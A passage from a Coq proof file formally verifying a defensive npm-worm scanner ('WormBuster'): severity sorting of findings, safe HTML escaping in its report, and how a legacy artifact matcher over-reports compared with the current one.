                     /\ f = maliciousArtifact hit)).
Proof.
  unfold WormBuster.scanDirectories in Hreturns.
  rewrite (scanLoop_exact _ _ _ Hreturns s f).
  unfold WormBuster.found, artifactFindings.
  split.
  - intros [H|[dir [Hdir [Hex H]]]]; [now destruct s|].
    exists dir. split; [exact Hdir|]. split; [exact Hex|].
    destruct H as [H|[Hs H]]; [now left|]. right. split; [exact Hs|].
    apply in_map_iff in H as [hit [<- H]]. now exists hit.
  - intros [dir [Hdir [Hex H]]]. right. exists dir. split; [exact Hdir|].
    split; [exact Hex|]. destruct H as [H|[Hs [hit [H ->]]]]; [now left|].
    right. split; [exact Hs|]. now apply in_map.
Qed.

(** X23: after the loop of [scan] every finding lies in the list of its
    own severity and has one of the expected pairs of type and
    severity; warnings are [KNOWN_TARGET] and [SUSPICIOUS_SCRIPT]
    findings only, and the [info] list holds [PARSE_ERROR] and
    [READ_ERROR] findings and only with [--verbose]. *)
Theorem scanDirectories_sorted
    (dirs : list string) (findings : WormBuster.Buckets)
    (Hreturns :
       WormBuster.scanDirectories readFileSync JSON_parse existsSync
         path_join readdirSync listing infectedPackages options dirs
       = Ok findings)
    (s : Severity) (f : Finding)
    (Hin : In f (WormBuster.bucket s findings)) :
  severity f = s /\ WormBuster.expected (WormBuster.verbose options) f.
Proof.
  unfold WormBuster.scanDirectories in Hreturns.
  apply (scanLoop_exact _ _ _ Hreturns s f) in Hin.
  destruct Hin as [Hin|[dir [_ [_ [[c [fs [_ [Hfs [Hin Hs]]]]]|[-> Hin]]]]]].
  - now destruct s.
  - split; [exact Hs|]. exact (analyzerFor_expected c fs f Hfs Hin).
  - unfold artifactFindings in Hin.
    apply in_map_iff in Hin as [hit [<- _]]. now split.
Qed.

End ScanLoop.

Lemma parseArgs_directories_witness :
  WormBuster.directories
    (WormBuster.parseArgs (fun p => "/work/" ++ p) "/work"
       ["node"; "worm-buster.js"; "--all"; "app"; "-v"; "lib"])
  = ["/work/app"; "/work/lib"]
  /\ WormBuster.outputDir
       (WormBuster.parseArgs (fun p => "/work/" ++ p) "/work"
          ["node"; "worm-buster.js"; "--all"; "app"; "-v"; "lib"])
     = "/work".
Proof.
  apply (proj2
           (parseArgs_directories (fun p => "/work/" ++ p) "/work"
              ["node"; "worm-buster.js"; "--all"; "app"; "-v"; "lib"])).
  reflexivity.
Defined.

Lemma getDirectoriesToScan_nonempty_witness :
  In "/work/app"
    (WormBuster.directories
       (WormBuster.parseArgs (fun p => "/work/" ++ p) "/work"
          ["node"; "worm-buster.js"; "--all"; "app"]))
  \/ (WormBuster.directories
        (WormBuster.parseArgs (fun p => "/work/" ++ p) "/work"
           ["node"; "worm-buster.js"; "--all"; "app"]) = []
      /\ if WormBuster.scanAll
              (WormBuster.parseArgs (fun p => "/work/" ++ p) "/work"
                 ["node"; "worm-buster.js"; "--all"; "app"])
         then "/work/app" = "/home/u"
              \/ ((fun _ : string => true) "/work/app" = true
                  /\ exists name,
                       In name WormBuster.COMMON_PROJECT_DIRS
                       /\ "/work/app" = posix_join "/home/u" name)
         else "/work/app" = "/work").
Proof.
  apply (proj2
           (getDirectoriesToScan_nonempty "/work" "/home/u" (fun _ => true)
              posix_join
              (WormBuster.parseArgs (fun p => "/work/" ++ p) "/work"
                 ["node"; "worm-buster.js"; "--all"; "app"]))).
  now left.
Defined.

Lemma scanDirectories_findings_witness :
  exists findings,
    WormBuster.scanDirectories (fun _ => Ok "{ ... }")
      (fun _ =>
         Ok (JObject [("dependencies", JObject [("evil", JString "^6.6.6")])]))
      (fun _ => true) posix_join (fun _ => Throw "ENOENT")
      (fun _ => Some [File "package.json" true; File "setup_bun.js" true])
      [("evil", ["6.6.6"])] (WormBuster.defaults "/work") ["/repo"]
    = Ok findings
    /\ In (maliciousArtifact (mkHit "setup_bun.js" "/repo/setup_bun.js"))
         (WormBuster.bucket CRITICAL findings).
Proof.
  eexists. split; [reflexivity|].
  apply (proj2
           (scanDirectories_findings (fun _ => Ok "{ ... }")
              (fun _ =>
                 Ok (JObject
                       [("dependencies",
                         JObject [("evil", JString "^6.6.6")])]))
              (fun _ => true) posix_join (fun _ => Throw "ENOENT")
              (fun _ =>
                 Some [File "package.json" true; File "setup_bun.js" true])
              [("evil", ["6.6.6"])] (WormBuster.defaults "/work") ["/repo"]
              _ eq_refl CRITICAL
              (maliciousArtifact (mkHit "setup_bun.js" "/repo/setup_bun.js")))).
  exists "/repo". split; [now left|]. split; [reflexivity|]. right.
  split; [reflexivity|].
  exists (mkHit "setup_bun.js" "/repo/setup_bun.js").
  split; [now left | reflexivity].
Defined.

Lemma scanDirectories_sorted_witness :
  severity
    (infectedPackage "evil" "6.6.6" (JString "^6.6.6") "dependencies"
       "/repo/package.json") = CRITICAL
  /\ WormBuster.expected false
       (infectedPackage "evil" "6.6.6" (JString "^6.6.6") "dependencies"
          "/repo/package.json").
Proof.
  apply (scanDirectories_sorted (fun _ => Ok "{ ... }")
           (fun _ =>
              Ok (JObject
                    [("dependencies", JObject [("evil", JString "^6.6.6")])]))
           (fun _ => true) posix_join (fun _ => Throw "ENOENT")
           (fun _ =>
              Some [File "package.json" true; File "setup_bun.js" true])
           [("evil", ["6.6.6"])] (WormBuster.defaults "/work") ["/repo"]
           _ eq_refl CRITICAL
           (infectedPackage "evil" "6.6.6" (JString "^6.6.6") "dependencies"
              "/repo/package.json")).
  now left.
Defined.

(** ** Escaping in the HTML report *)

Import Reporter.

Lemma replaceAll_app (c : ascii) (r s t : string) :
  replaceAll c r (s ++ t) = replaceAll c r s ++ replaceAll c r t.
Proof.
  induction s as [|a s IH]; [reflexivity|]. cbn [append replaceAll].
  rewrite IH. destruct (Ascii.eqb a c); [|reflexivity].
  now rewrite append_assoc3.
Qed.

Lemma escapeHtml_cons (a : ascii) (s : string) :
  escapeHtml (String a s) = escapeChar a ++ escapeHtml s.
Proof.
  unfold escapeHtml, escapeChar. cbn [replaceAll].
  destruct (Ascii.eqb_spec a "&") as [->|Hamp].
  { now rewrite !replaceAll_app. }
  cbn [replaceAll].
  destruct (Ascii.eqb_spec a "<") as [->|Hlt].
  { now rewrite !replaceAll_app. }
  cbn [replaceAll].
  destruct (Ascii.eqb_spec a ">") as [->|Hgt].
  { now rewrite !replaceAll_app. }
  cbn [replaceAll].
  now destruct (Ascii.eqb_spec a QUOTE) as [->|Hquote].
Qed.

Lemma escapeChar_cases (a : ascii) :
  (special a = true
   /\ (a = "&"%char /\ escapeChar a = "&amp;"
       \/ a = "<"%char /\ escapeChar a = "&lt;"
       \/ a = ">"%char /\ escapeChar a = "&gt;"
       \/ a = QUOTE /\ escapeChar a = "&quot;"))
  \/ (special a = false /\ a <> "&"%char /\ escapeChar a = String a "").
Proof.
  unfold special, escapeChar.
  destruct (Ascii.eqb_spec a "&") as [->|Hamp]; [left; split; auto|].
  destruct (Ascii.eqb_spec a "<") as [->|Hlt]; [left; split; auto|].
  destruct (Ascii.eqb_spec a ">") as [->|Hgt]; [left; split; auto|].
  destruct (Ascii.eqb_spec a QUOTE) as [->|Hquote];
    [left; split; auto 6 | right; auto].
Qed.

Lemma escapeHtml_length (s : string) :
  (String.length s <= String.length (escapeHtml s))%nat.
Proof.
  induction s as [|a s IH]; [apply Nat.le_refl|].
  rewrite escapeHtml_cons.
  destruct (escapeChar_cases a)
    as [[_ [[_ ->]|[[_ ->]|[[_ ->]|[_ ->]]]]]|[_ [_ ->]]];
    cbn [append String.length]; lia.
Qed.

(** X24: [escapeHtml] of a string contains no [<], no [>] and no double
    quote, and it returns the string unchanged exactly when the string
    contains none of [&], [<], [>] and the double quote. *)
Theorem escapeHtml_safe (str : string) :
  lacks "<" (escapeHtml str) = true
  /\ lacks ">" (escapeHtml str) = true
  /\ lacks QUOTE (escapeHtml str) = true
  /\ (escapeHtml str = str <-> allChars (fun a => negb (special a)) str = true).
Proof.
  induction str as [|a s [Hlt [Hgt [Hquote Hfixed]]]].
  { repeat split; reflexivity. }
  rewrite escapeHtml_cons, !lacks_app, Hlt, Hgt, Hquote, !andb_true_r.
  cbn [allChars].
  destruct (escapeChar_cases a)
    as [[-> [[-> ->]|[[-> ->]|[[-> ->]|[-> ->]]]]]|[-> [Hamp Hplain]]].
  - repeat split; try reflexivity; try discriminate.
    cbn [append]. intros [= Hs]. pose proof (escapeHtml_length s) as Hlen.
    rewrite <- Hs in Hlen at 1. cbn [append String.length] in Hlen. lia.
  - repeat split; try reflexivity; discriminate.
  - repeat split; try reflexivity; discriminate.
  - repeat split; try reflexivity; discriminate.
  - rewrite Hplain. cbn [append negb andb].
    assert (Hnot : special a = false).
    { destruct (escapeChar_cases a) as [[_ H]|[H _]]; [|exact H].
      destruct H as [[-> H]|[[-> H]|[[-> H]|[-> H]]]];
        rewrite H in Hplain; discriminate Hplain. }
    unfold special in Hnot.
    apply orb_false_iff in Hnot as [Hnot Hq].
    apply orb_false_iff in Hnot as [Hnot Hg].
    apply orb_false_iff in Hnot as [_ Hl].
    unfold lacks. cbn [allChars]. rewrite Hl, Hg, Hq. cbn [negb andb].
    repeat split; try reflexivity.
    + intros [= Hs]. now apply Hfixed.
    + intros Hs. f_equal. now apply Hfixed.
Qed.

(** X25: [escapeHtml] is injective on strings: two different texts are
    never rendered as the same escaped text. *)
Theorem escapeHtml_injective (s t : string) :
  escapeHtml s = escapeHtml t -> s = t.
Proof.
  revert t. induction s as [|a s IH]; intros [|b t].
  - reflexivity.
  - rewrite escapeHtml_cons.
    destruct (escapeChar_cases b)
      as [[_ [[_ ->]|[[_ ->]|[[_ ->]|[_ ->]]]]]|[_ [_ ->]]]; discriminate.
  - rewrite escapeHtml_cons.
    destruct (escapeChar_cases a)
      as [[_ [[_ ->]|[[_ ->]|[[_ ->]|[_ ->]]]]]|[_ [_ ->]]]; discriminate.
  - rewrite !escapeHtml_cons.
    destruct (escapeChar_cases a)
      as [[_ [[-> ->]|[[-> ->]|[[-> ->]|[-> ->]]]]]|[_ [Ha ->]]];
      destruct (escapeChar_cases b)
        as [[_ [[-> ->]|[[-> ->]|[[-> ->]|[-> ->]]]]]|[_ [Hb ->]]];
      cbn [append]; intros H; try discriminate H;
      try (injection H as H; f_equal; now apply IH);
      try (injection H as Hc H; congruence).
    injection H as -> H. f_equal. now apply IH.
Qed.

Lemma escapeHtml_safe_witness :
  escapeHtml "lodash@4.17.21" = "lodash@4.17.21".
Proof.
  apply (proj2 (proj2 (proj2 (escapeHtml_safe "lodash@4.17.21")))).
  reflexivity.
Defined.

Lemma escapeHtml_injective_witness : "a<b" = "a<b".
Proof. apply (escapeHtml_injective "a<b" "a<b"). reflexivity. Defined.

(** ** The first scanner *)

Lemma legacy_testFile_path (fullPath name : string) (h : ArtifactHit) :
  In h (Legacy.testFile fullPath name) -> a_path h = fullPath.
Proof.
  unfold Legacy.testFile, Legacy.matchArtifacts.
  rewrite in_app_iff, in_flat_map.
  intros [[a [_ H]]|H].
  - destruct (endsWith fullPath a || String.eqb name (Legacy.basename a));
      [|destruct H].
    now destruct H as [<-|[]].
  - apply In_matchWorkflow in H. now subst.
Qed.

Lemma basename_listed (a : string) :
  In a MALICIOUS_ARTIFACTS -> includes a "/" = false -> Legacy.basename a = a.
Proof.
  unfold MALICIOUS_ARTIFACTS. cbn [In].
  intros H; repeat (destruct H as [<-|H]; [intros H'; try discriminate H';
                                            reflexivity|]).
  destruct H.
Qed.

(** What the first scanner reports for a file and the present one does
    not. *)
Lemma legacy_testFile_compare (fullPath name : string) (h : ArtifactHit) :
  (In h (testFile fullPath name) -> In h (Legacy.testFile fullPath name))
  /\ (In h (Legacy.testFile fullPath name) ->
      ~ In h (testFile fullPath name) ->
      In (a_artifact h) MALICIOUS_ARTIFACTS
      /\ name <> a_artifact h
      /\ if includes (a_artifact h) "/"
         then name = Legacy.basename (a_artifact h)
              /\ endsWith fullPath (a_artifact h) = false
         else endsWith fullPath (a_artifact h) = true).
Proof.
  unfold testFile, Legacy.testFile, Legacy.matchArtifacts.
  rewrite !in_app_iff, In_matchArtifacts, in_flat_map. split.
  - intros [[a [Ha [-> Hm]]]|H]; [|now right].
    left. exists a. split; [exact Ha|].
    destruct (includes a "/") eqn:Hslash.
    + rewrite Hm. now left.
    + apply String.eqb_eq in Hm. subst name.
      rewrite (basename_listed a Ha Hslash), String.eqb_refl, orb_true_r.
      now left.
  - intros [[a [Ha H]]|H] Hnot; [|destruct Hnot; now right].
    destruct (endsWith fullPath a || String.eqb name (Legacy.basename a))
      eqn:Hm; [|destruct H].
    destruct H as [<-|[]]. cbn [a_artifact]. split; [exact Ha|].
    assert (Hcur :
              (if includes a "/" then endsWith fullPath a
               else String.eqb name a) = false).
    { destruct (if includes a "/" then endsWith fullPath a
                else String.eqb name a) eqn:E; [|reflexivity].
      destruct Hnot. left. now exists a. }
    destruct (includes a "/") eqn:Hslash.
    + rewrite Hcur in Hm. cbn [orb] in Hm. apply String.eqb_eq in Hm.
      split; [|now split].
      intros ->. rewrite Hm in Hslash. clear -Ha Hslash.
      unfold MALICIOUS_ARTIFACTS in Ha. cbn [In] in Ha.
      repeat (destruct Ha as [<-|Ha]; [discriminate Hslash|]).
      destruct Ha.
    + apply String.eqb_neq in Hcur. split; [exact Hcur|].
      rewrite (basename_listed a Ha Hslash) in Hm.
      apply orb_true_iff in Hm as [Hm|Hm]; [exact Hm|].
      apply String.eqb_eq in Hm. now destruct Hcur.
Qed.

Section LegacyTraversal.
Variable path_join : string -> string -> string.

Lemma legacy_entry_sound (entry : Dirent) :
  forall currentDir h,
    In h (Legacy.findMaliciousArtifacts_entry path_join currentDir entry) ->
    exists name,
      ScannedFile path_join currentDir [entry] (a_path h) name
      /\ In h (Legacy.testFile (a_path h) name).
Proof.
  induction entry as [name present | name | name entries IH]
    using Dirent_forall_ind; intros currentDir h;
    cbn [Legacy.findMaliciousArtifacts_entry d_name];
    destruct (String.eqb_spec name "node_modules") as [E|E];
    try (now intros []).
  - intros Hin. pose proof (legacy_testFile_path _ _ _ Hin) as Hp.
    exists name. rewrite Hp. split; [|exact Hin].
    apply scanned_here with (present := present); [now left | exact E].
  - intros Hin. apply in_flat_map in Hin as [e [He Hin]].
    rewrite Forall_forall in IH.
    destruct (IH e He _ _ Hin) as [fname [Hs Ht]].
    exists fname. split; [|exact Ht].
    apply scanned_below with (dir := name) (sub := entries);
      [now left | exact E |].
    apply (ScannedFile_incl path_join) with (entries := [e]); [|exact Hs].
    intros x [<-|[]]. exact He.
Qed.

Lemma legacy_entry_incl (entry : Dirent) :
  forall currentDir h,
    In h (findMaliciousArtifacts_entry path_join currentDir entry) ->
    In h (Legacy.findMaliciousArtifacts_entry path_join currentDir entry).
Proof.
  induction entry as [name present | name | name entries IH]
    using Dirent_forall_ind; intros currentDir h;
    cbn [findMaliciousArtifacts_entry Legacy.findMaliciousArtifacts_entry
         d_name];
    destruct (String.eqb name "node_modules"); try (now intros []).
  - apply legacy_testFile_compare.
  - rewrite !in_flat_map. intros [e [He Hin]]. exists e.
    split; [exact He|]. rewrite Forall_forall in IH. now apply IH.
Qed.

(** X26: the first scanner, which also matched a suffix of the path for
    every artifact and the basename of a path artifact, reports every
    hit that [findMaliciousArtifacts] reports on the same tree.  A hit
    it reports in addition is for a scanned file whose name is not the
    artifact: a file named like the last segment of a path artifact
    outside that path, or a file whose path merely ends with a plain
    artifact name, as [foo.postman_environment.json] does for
    [environment.json]. *)
Theorem legacy_artifacts_superset
    (dir : string) (root : option (list Dirent)) (h : ArtifactHit) :
  (In h (findMaliciousArtifacts path_join dir root) ->
   In h (Legacy.findMaliciousArtifacts path_join dir root))
  /\ (In h (Legacy.findMaliciousArtifacts path_join dir root) ->
      ~ In h (findMaliciousArtifacts path_join dir root) ->
      exists entries name,
        root = Some entries
        /\ ScannedFile path_join dir entries (a_path h) name
        /\ In (a_artifact h) MALICIOUS_ARTIFACTS
        /\ name <> a_artifact h
        /\ if includes (a_artifact h) "/"
           then name = Legacy.basename (a_artifact h)
                /\ endsWith (a_path h) (a_artifact h) = false
           else endsWith (a_path h) (a_artifact h) = true).
Proof.
  unfold findMaliciousArtifacts, findMaliciousArtifacts_scan,
    Legacy.findMaliciousArtifacts.
  destruct root as [entries|]; [|split; [auto | intros []]].
  split.
  - rewrite !in_flat_map. intros [e [He Hin]]. exists e.
    split; [exact He | now apply legacy_entry_incl].
  - intros Hin Hnot. apply in_flat_map in Hin as [e [He Hin]].
    destruct (legacy_entry_sound e _ _ Hin) as [name [Hs Ht]].
    assert (Hscanned : ScannedFile path_join dir entries (a_path h) name).
    { apply (ScannedFile_incl path_join) with (entries := [e]); [|exact Hs].
      intros x [<-|[]]. exact He. }
    exists entries, name. split; [reflexivity|]. split; [exact Hscanned|].
    apply (proj2 (legacy_testFile_compare (a_path h) name h) Ht).
    intros Hcur. apply Hnot.
    exact (artifacts_scan_complete path_join dir entries (a_path h) name
             Hscanned h Hcur).
Qed.

End LegacyTraversal.

Lemma legacy_artifacts_superset_witness :
  exists entries name,
    Some [File "foo.postman_environment.json" true] = Some entries
    /\ ScannedFile posix_join "/repo" entries
         (a_path (mkHit "environment.json"
                    "/repo/foo.postman_environment.json")) name
    /\ In "environment.json" MALICIOUS_ARTIFACTS
    /\ name <> "environment.json"
    /\ endsWith "/repo/foo.postman_environment.json" "environment.json"
       = true.
Proof.
  apply (proj2
           (legacy_artifacts_superset posix_join "/repo"
              (Some [File "foo.postman_environment.json" true])
              (mkHit "environment.json"
                 "/repo/foo.postman_environment.json"))).
  - now left.
  - intros [].
Defined.
